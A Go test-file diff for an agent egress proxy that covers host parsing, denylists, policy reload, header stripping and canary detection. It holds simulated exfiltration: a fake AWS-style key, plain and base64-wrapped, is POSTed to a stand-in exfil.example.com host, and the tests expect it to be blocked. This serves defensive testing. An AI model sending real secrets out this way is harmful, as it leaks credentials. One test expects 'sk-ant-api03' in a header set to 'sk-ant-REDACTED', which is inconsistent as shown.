@@ -2,6 +2,7 @@ package proxy
 
 import (
 	"context"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -9,8 +10,14 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
 	"testing"
 	"time"
+
+	"github.com/ppiankov/chainwatch/internal/canary"
+	"github.com/ppiankov/chainwatch/internal/model"
 )
 
 // newTestProxy creates a proxy server on a random port for testing.
@@ -276,6 +283,96 @@ func TestBuildActionFromRequest(t *testing.T) {
 	}
 }
 
+func TestHostOnly(t *testing.T) {
+	tests := []struct {
+		in   string
+		want string
+	}{
+		{"example.com", "example.com"},
+		{"Example.COM:443", "example.com"},
+		{"example.com.", "example.com"},
+		{"10.0.0.1:8080", "10.0.0.1"},
+		{"[::1]:443", "::1"},
+		{"[::1]", "::1"},
+		{"[2001:db8::1]:8443", "2001:db8::1"},
+		{"[::ffff:127.0.0.1]:80", "::ffff:127.0.0.1"},
+	}
+	for _, tt := range tests {
+		if got := hostOnly(tt.in); got != tt.want {
+			t.Errorf("hostOnly(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestIsLocalhost(t *testing.T) {
+	tests := []struct {
+		host string
+		want bool
+	}{
+		{"localhost", true},
+		{"LOCALHOST", true},
+		{"api.localhost", true},
+		{"127.0.0.1", true},
+		{"127.8.9.10", true},
+		{"::1", true},
+		{"[::1]", true},
+		{"::ffff:127.0.0.1", true},
+		{"0:0:0:0:0:0:0:1", true},
+		{"128.0.0.1", false},
+		{"::ffff:10.0.0.1", false},
+		{"2001:db8::1", false},
+		{"localhost.example.com", false},
+		{"example.com", false},
+	}
+	for _, tt := range tests {
+		if got := isLocalhost(tt.host); got != tt.want {
+			t.Errorf("isLocalhost(%q) = %v, want %v", tt.host, got, tt.want)
+		}
+	}
+}
+
+func TestBuildActionFromRequestIPv6(t *testing.T) {
+	tests := []struct {
+		host       string
+		wantDest   string
+		wantEgress string
+	}{
+		{"[::1]:8080", "::1", "internal"},
+		{"[::ffff:127.0.0.1]:8080", "::ffff:127.0.0.1", "internal"},
+		{"[2001:db8::1]:8080", "2001:db8::1", "external"},
+	}
+	for _, tt := range tests {
+		req, _ := http.NewRequest("GET", "http://"+tt.host+"/status", nil)
+		action := buildActionFromRequest(req)
+		if got := action.RawMeta["destination"]; got != tt.wantDest {
+			t.Errorf("%s: destination = %v, want %s", tt.host, got, tt.wantDest)
+		}
+		if got := action.RawMeta["egress"]; got != tt.wantEgress {
+			t.Errorf("%s: egress = %v, want %s", tt.host, got, tt.wantEgress)
+		}
+	}
+}
+
+func TestConnectBracketedIPv6(t *testing.T) {
+	srv, _ := newTestProxy(t)
+
+	// Port 1 is closed, so the tunnel dial fails after policy evaluation.
+	req := httptest.NewRequest(http.MethodConnect, "[::1]:1", nil)
+	w := httptest.NewRecorder()
+	srv.handleConnect(w, req)
+
+	events := srv.tracer.Events
+	if len(events) != 1 {
+		t.Fatalf("expected 1 trace event, got %d", len(events))
+	}
+	if got := events[0].Action["resource"]; got != "::1" {
+		t.Errorf("expected resource ::1, got %v", got)
+	}
+	if got := events[0].Egress["direction"]; got != "internal" {
+		t.Errorf("expected internal egress for IPv6 loopback, got %v", got)
+	}
+}
+
 func TestClassifySensitivity(t *testing.T) {
 	tests := []struct {
 		url      string
@@ -285,6 +382,11 @@ func TestClassifySensitivity(t *testing.T) {
 		{"https://stripe.com/v1/charges", "high", "payment"},
 		{"https://example.com/oauth/token", "high", "credential"},
 		{"https://company.com/hr/employees", "high", "sensitive"},
+		{"https://shop.example.com/pricing", "medium", "payment_adjacent"},
+		{"https://app.example.com/account/invoices/42", "medium", "payment_adjacent"},
+		{"https://github.com/acme/app.git/git-receive-pack", "medium", "vcs_write"},
+		{"https://github.com/acme/app.git/info/refs?service=git-receive-pack", "medium", "vcs_write"},
+		{"https://shop.example.com/cart/checkout", "high", "payment"},
 		{"https://docs.example.com/api", "low", ""},
 	}
 
@@ -311,7 +413,7 @@ func TestDenylistBlocksPaymentDomain(t *testing.T) {
 	// Verify the denylist itself blocks payment URLs via http_proxy tool
 	srv, _ := newTestProxy(t)
 
-	blocked, reason := srv.dl.IsBlocked("https://stripe.com/v1/charges", "http_proxy")
+	blocked, reason := srv.snapshot().Denylist.IsBlocked("https://stripe.com/v1/charges", "http_proxy")
 	if !blocked {
 		t.Error("expected stripe.com/v1/charges to be blocked by denylist")
 	}
@@ -319,3 +421,492 @@ func TestDenylistBlocksPaymentDomain(t *testing.T) {
 		t.Error("expected a reason")
 	}
 }
+
+func TestAgentHeaderAttributesAuditEntries(t *testing.T) {
+	var forwarded string
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		forwarded = r.Header.Get("X-Agent-ID")
+		w.Write([]byte("ok"))
+	}))
+	defer backend.Close()
+
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("failed to find free port: %v", err)
+	}
+	port := ln.Addr().(*net.TCPAddr).Port
+	ln.Close()
+
+	auditPath := filepath.Join(t.TempDir(), "audit.jsonl")
+	srv, err := NewServer(Config{
+		Port:         port,
+		Purpose:      "test",
+		Actor:        map[string]any{"test": true},
+		AuditLogPath: auditPath,
+		AgentHeader:  "X-Agent-ID",
+	})
+	if err != nil {
+		t.Fatalf("failed to create proxy: %v", err)
+	}
+	cancel := startTestProxy(t, srv)
+	defer cancel()
+
+	client := proxyClient(port)
+	req, _ := http.NewRequest(http.MethodGet, backend.URL+"/docs/a", nil)
+	req.Header.Set("X-Agent-ID", "agent-alpha")
+	resp, err := client.Do(req)
+	if err != nil {
+		t.Fatalf("request with header failed: %v", err)
+	}
+	resp.Body.Close()
+
+	resp, err = client.Get(backend.URL + "/docs/b")
+	if err != nil {
+		t.Fatalf("request without header failed: %v", err)
+	}
+	resp.Body.Close()
+	srv.Close()
+
+	if forwarded != "" {
+		t.Errorf("agent header must not be forwarded upstream, got %q", forwarded)
+	}
+
+	data, err := os.ReadFile(auditPath)
+	if err != nil {
+		t.Fatalf("read audit log: %v", err)
+	}
+	var agents []string
+	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
+		var entry struct {
+			AgentID string `json:"agent_id"`
+		}
+		if err := json.Unmarshal([]byte(line), &entry); err != nil {
+			t.Fatalf("parse audit line: %v", err)
+		}
+		agents = append(agents, entry.AgentID)
+	}
+	if len(agents) != 2 || agents[0] != "agent-alpha" || agents[1] != "" {
+		t.Errorf("expected audit agents [agent-alpha \"\"], got %q", agents)
+	}
+}
+
+func TestCanaryExfiltrationBlockedAndAlerted(t *testing.T) {
+	const canaryValue = "AKIACANARYTOKEN00001"
+
+	alerts := make(chan string, 4)
+	webhook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		alerts <- string(body)
+	}))
+	defer webhook.Close()
+
+	var received string
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		received = string(body)
+		w.Write([]byte("ok"))
+	}))
+	defer backend.Close()
+
+	policyPath := filepath.Join(t.TempDir(), "policy.yaml")
+	policyYAML := fmt.Sprintf(`enforcement_mode: guarded
+canaries:
+  - name: fake-aws-key
+    value: %s
+alerts:
+  - url: %s
+    events: [break_glass_used]
+`, canaryValue, webhook.URL)
+	if err := os.WriteFile(policyPath, []byte(policyYAML), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("failed to find free port: %v", err)
+	}
+	port := ln.Addr().(*net.TCPAddr).Port
+	ln.Close()
+
+	srv, err := NewServer(Config{Port: port, Purpose: "test", PolicyPath: policyPath})
+	if err != nil {
+		t.Fatalf("failed to create proxy: %v", err)
+	}
+	cancel := startTestProxy(t, srv)
+	defer cancel()
+	client := proxyClient(port)
+
+	// External POST carrying the canary is blocked before leaving.
+	payload := `{"key":"` + canaryValue + `"}`
+	resp, err := client.Post("http://exfil.example.com/upload", "application/json", strings.NewReader(payload))
+	if err != nil {
+		t.Fatalf("request failed: %v", err)
+	}
+	var body map[string]any
+	json.NewDecoder(resp.Body).Decode(&body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden {
+		t.Fatalf("expected 403, got %d", resp.StatusCode)
+	}
+	if reason, _ := body["reason"].(string); !strings.Contains(reason, "canary_triggered") {
+		t.Errorf("expected canary_triggered reason, got %v", body["reason"])
+	}
+
+	select {
+	case alert := <-alerts:
+		if !strings.Contains(alert, "canary_triggered") {
+			t.Errorf("expected canary alert, got %s", alert)
+		}
+	case <-time.After(2 * time.Second):
+		t.Fatal("expected forced alert for canary exfiltration")
+	}
+
+	// The same canary sent to a local service is not flagged.
+	resp, err = client.Post(backend.URL+"/ingest", "application/json", strings.NewReader(payload))
+	if err != nil {
+		t.Fatalf("local request failed: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("expected local request to pass, got %d", resp.StatusCode)
+	}
+	if received != payload {
+		t.Errorf("expected full body forwarded, got %q", received)
+	}
+}
+
+func TestBlockStatusPerDecision(t *testing.T) {
+	srv, _ := newTestProxy(t)
+	custom, err := resolveBlockStatus(map[string]int{BlockDeny: 451})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name   string
+		status map[string]int
+		result model.PolicyResult
+		want   int
+		key    string
+	}{
+		{"deny", srv.status, model.PolicyResult{Decision: model.Deny, Reason: "no"}, http.StatusForbidden, ""},
+		{"approval", srv.status, model.PolicyResult{Decision: model.RequireApproval, ApprovalKey: "soc_salary_access"}, http.StatusPreconditionRequired, "soc_salary_access"},
+		{"rate limited", srv.status, model.PolicyResult{Decision: model.Deny, PolicyID: "ratelimit.global.http_proxy_exceeded"}, http.StatusTooManyRequests, ""},
+		{"quarantine", srv.status, model.PolicyResult{Decision: model.Quarantine}, http.StatusForbidden, ""},
+		{"configured deny", custom, model.PolicyResult{Decision: model.Deny}, 451, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			srv.status = tt.status
+			w := httptest.NewRecorder()
+			srv.writeBlocked(w, srv.snapshot(), tt.result)
+
+			if w.Code != tt.want {
+				t.Errorf("expected status %d, got %d", tt.want, w.Code)
+			}
+			if got := w.Header().Get(ApprovalKeyHeader); got != tt.key {
+				t.Errorf("expected %s %q, got %q", ApprovalKeyHeader, tt.key, got)
+			}
+			var body map[string]any
+			if err := json.NewDecoder(w.Body).Decode(&body); err != nil {
+				t.Fatal(err)
+			}
+			if body["decision"] != string(tt.result.Decision) {
+				t.Errorf("expected body decision %s, got %v", tt.result.Decision, body["decision"])
+			}
+		})
+	}
+}
+
+func TestResolveBlockStatusRejectsInvalid(t *testing.T) {
+	for _, overrides := range []map[string]int{
+		{"denied": 403},
+		{BlockDeny: 200},
+		{BlockRateLimited: 600},
+	} {
+		if _, err := resolveBlockStatus(overrides); err == nil {
+			t.Errorf("resolveBlockStatus(%v) should fail", overrides)
+		}
+	}
+}
+
+func TestReloadPolicyKeepsConfigWhenRequiredFileMissing(t *testing.T) {
+	policyPath := filepath.Join(t.TempDir(), "policy.yaml")
+	if err := os.WriteFile(policyPath, []byte("enforcement_mode: locked\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	srv, _ := newTestProxy(t)
+	srv.cfg.PolicyPath = policyPath
+	srv.cfg.RequirePolicyFile = true
+	if err := srv.ReloadPolicy(); err != nil {
+		t.Fatalf("ReloadPolicy: %v", err)
+	}
+	before := srv.snapshot()
+
+	if err := os.Remove(policyPath); err != nil {
+		t.Fatal(err)
+	}
+	if err := srv.ReloadPolicy(); err == nil {
+		t.Fatal("expected reload to fail once the required policy file is gone")
+	}
+
+	after := srv.snapshot()
+	if after.Hash != before.Hash || after.Config.EnforcementMode != "locked" {
+		t.Errorf("expected locked policy %s to stay active, got %s mode %q",
+			before.Hash, after.Hash, after.Config.EnforcementMode)
+	}
+}
+
+func TestReloadPolicyAppliesDenylist(t *testing.T) {
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusOK)
+	}))
+	defer backend.Close()
+
+	denylistPath := filepath.Join(t.TempDir(), "denylist.yaml")
+	if err := os.WriteFile(denylistPath, []byte("urls:\n  - \"/unrelated\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	srv, port := newTestProxy(t)
+	srv.cfg.DenylistPath = denylistPath
+	if err := srv.ReloadPolicy(); err != nil {
+		t.Fatalf("ReloadPolicy: %v", err)
+	}
+	cancel := startTestProxy(t, srv)
+	defer cancel()
+
+	client := proxyClient(port)
+	get := func() int {
+		t.Helper()
+		resp, err := client.Get(backend.URL + "/reload-target")
+		if err != nil {
+			t.Fatalf("request failed: %v", err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+
+	if code := get(); code != http.StatusOK {
+		t.Fatalf("expected 200 before reload, got %d", code)
+	}
+
+	if err := os.WriteFile(denylistPath, []byte("urls:\n  - \"/reload-target\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := srv.ReloadPolicy(); err != nil {
+		t.Fatalf("ReloadPolicy: %v", err)
+	}
+
+	if code := get(); code != http.StatusForbidden {
+		t.Errorf("expected 403 after reload, got %d", code)
+	}
+	if events := len(srv.tracer.Events); events != 2 {
+		t.Errorf("expected trace to survive reload with 2 events, got %d", events)
+	}
+}
+
+func TestDenialGuidanceInBlockBody(t *testing.T) {
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		t.Error("request reached backend — should have been blocked")
+	}))
+	defer backend.Close()
+
+	policyPath := filepath.Join(t.TempDir(), "policy.yaml")
+	policyYAML := `denial_guidance:
+  template: "{{.Decision}} by {{.PolicyID}}. {{.Hint}}"
+  hints:
+    "denylist.*": "Use the sandbox payment API instead."
+`
+	if err := os.WriteFile(policyPath, []byte(policyYAML), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	srv, port := newTestProxy(t)
+	srv.cfg.PolicyPath = policyPath
+	if err := srv.ReloadPolicy(); err != nil {
+		t.Fatalf("ReloadPolicy: %v", err)
+	}
+	cancel := startTestProxy(t, srv)
+	defer cancel()
+
+	resp, err := proxyClient(port).Post(backend.URL+"/checkout/complete", "application/json", nil)
+	if err != nil {
+		t.Fatalf("request failed: %v", err)
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusForbidden {
+		t.Fatalf("expected 403, got %d", resp.StatusCode)
+	}
+	var body map[string]any
+	json.NewDecoder(resp.Body).Decode(&body)
+	policyID, _ := body["policy_id"].(string)
+	want := "deny by " + policyID + ". Use the sandbox payment API instead."
+	if !strings.HasPrefix(policyID, "denylist.") || body["guidance"] != want {
+		t.Errorf("expected guidance %q, got %v", want, body["guidance"])
+	}
+}
+
+func TestInspectPayloadReadsBodyOnlyForCanaries(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	srv, _ := newTestProxy(t)
+	const canaryValue = "AKIACANARYTOKEN00001"
+	encoded := base64.StdEncoding.EncodeToString([]byte("dump: key=" + canaryValue + " end"))
+	newRequest := func() *http.Request {
+		return httptest.NewRequest(http.MethodPost, "http://exfil.example.com/upload", strings.NewReader(`{"blob":"`+encoded+`"}`))
+	}
+
+	enf := srv.snapshot()
+	r := newRequest()
+	body := r.Body
+	action := buildActionFromRequest(r)
+	srv.inspectPayload(r, enf, action)
+	if action.Payload != "" || r.Body != body {
+		t.Error("expected the body left unread without canaries")
+	}
+
+	withCanary := *enf
+	cfg := *enf.Config
+	cfg.Canaries = []canary.Token{{Name: "fake-aws-key", Value: canaryValue}}
+	withCanary.Config = &cfg
+	r = newRequest()
+	action = buildActionFromRequest(r)
+	srv.inspectPayload(r, &withCanary, action)
+	if _, ok := canary.Find(cfg.Canaries, action.Payload); !ok {
+		t.Errorf("expected base64-wrapped canary found in payload %q", action.Payload)
+	}
+	if forwarded, _ := io.ReadAll(r.Body); !strings.Contains(string(forwarded), encoded) {
+		t.Errorf("expected the full body still forwarded, got %q", forwarded)
+	}
+}
+
+func newHeaderGuardProxy(t *testing.T) int {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("failed to find free port: %v", err)
+	}
+	port := ln.Addr().(*net.TCPAddr).Port
+	ln.Close()
+
+	srv, err := NewServer(Config{
+		Port:                 port,
+		Purpose:              "test",
+		Actor:                map[string]any{"test": true},
+		StripRequestHeaders:  []string{"x-internal-token"},
+		StripResponseHeaders: []string{"X-Backend-Version"},
+		MaxHeaderBytes:       2048,
+	})
+	if err != nil {
+		t.Fatalf("failed to create proxy: %v", err)
+	}
+	t.Cleanup(startTestProxy(t, srv))
+	return port
+}
+
+func TestDenylistedHeadersStripped(t *testing.T) {
+	var forwardedToken, forwardedKept string
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		forwardedToken = r.Header.Get("X-Internal-Token")
+		forwardedKept = r.Header.Get("X-Request-Id")
+		w.Header().Set("X-Backend-Version", "nginx/1.2.3")
+		w.Write([]byte("ok"))
+	}))
+	defer backend.Close()
+
+	port := newHeaderGuardProxy(t)
+	req, _ := http.NewRequest(http.MethodGet, backend.URL+"/docs", nil)
+	req.Header.Set("X-Internal-Token", "tok-123")
+	req.Header.Set("X-Request-Id", "req-1")
+	resp, err := proxyClient(port).Do(req)
+	if err != nil {
+		t.Fatalf("request failed: %v", err)
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("expected 200, got %d", resp.StatusCode)
+	}
+	if forwardedToken != "" {
+		t.Errorf("denylisted request header forwarded: %q", forwardedToken)
+	}
+	if forwardedKept != "req-1" {
+		t.Errorf("unlisted request header dropped, got %q", forwardedKept)
+	}
+	if v := resp.Header.Get("X-Backend-Version"); v != "" {
+		t.Errorf("denylisted response header returned: %q", v)
+	}
+}
+
+func TestOversizedHeadersRejected(t *testing.T) {
+	reached := false
+	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		reached = true
+		w.Write([]byte("ok"))
+	}))
+	defer backend.Close()
+
+	port := newHeaderGuardProxy(t)
+	req, _ := http.NewRequest(http.MethodGet, backend.URL+"/docs", nil)
+	req.Header.Set("X-Padding", strings.Repeat("a", 4096))
+	resp, err := proxyClient(port).Do(req)
+	if err != nil {
+		t.Fatalf("request failed: %v", err)
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
+		t.Errorf("expected 431, got %d", resp.StatusCode)
+	}
+	if reached {
+		t.Error("oversized request reached the backend")
+	}
+}
+
+func TestEvaluatePanicDeniesAndReleasesLock(t *testing.T) {
+	srv, _ := newTestProxy(t)
+	state := srv.tracer.State
+	srv.tracer.State = nil // every evaluation step dereferences the trace state
+	action := &model.Action{Tool: "http_proxy", Resource: "https://example.com/", Operation: "get"}
+	result := srv.evaluate(context.Background(), srv.snapshot(), action, "")
+	srv.tracer.State = state
+
+	if result.Decision != model.Deny || result.PolicyID != "evaluation.panic" {
+		t.Fatalf("expected evaluation.panic deny, got %s (%s)", result.Decision, result.PolicyID)
+	}
+	if !srv.mu.TryLock() {
+		t.Fatal("panic left the trace lock held")
+	}
+	srv.mu.Unlock()
+}
+
+func TestScannedHeaderCredentialsNotTaggedAsSecret(t *testing.T) {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("failed to find free port: %v", err)
+	}
+	port := ln.Addr().(*net.TCPAddr).Port
+	ln.Close()
+	srv, err := NewServer(Config{Port: port, Purpose: "test", ScanHeaderValues: true})
+	if err != nil {
+		t.Fatalf("failed to create proxy: %v", err)
+	}
+
+	r := httptest.NewRequest(http.MethodGet, "http://api.example.com/v1/models", nil)
+	r.Header.Set("Authorization", "Bearer sk-ant-REDACTED")
+	action := buildActionFromRequest(r)
+	enf := *srv.snapshot()
+	cfg := *enf.Config
+	cfg.Canaries = []canary.Token{{Name: "fake-aws-key", Value: "AKIACANARYTOKEN00001"}}
+	enf.Config = &cfg
+	srv.inspectPayload(r, &enf, action)
+
+	if !strings.Contains(action.Payload, "sk-ant-api03") {
+		t.Errorf("expected header values in the canary payload, got %q", action.Payload)
+	}
+	if meta := action.NormalizedMeta(); meta.Sensitivity == model.SensHigh {
+		t.Errorf("client credential header tagged as a secret: %v", meta.Tags)
+	}
+}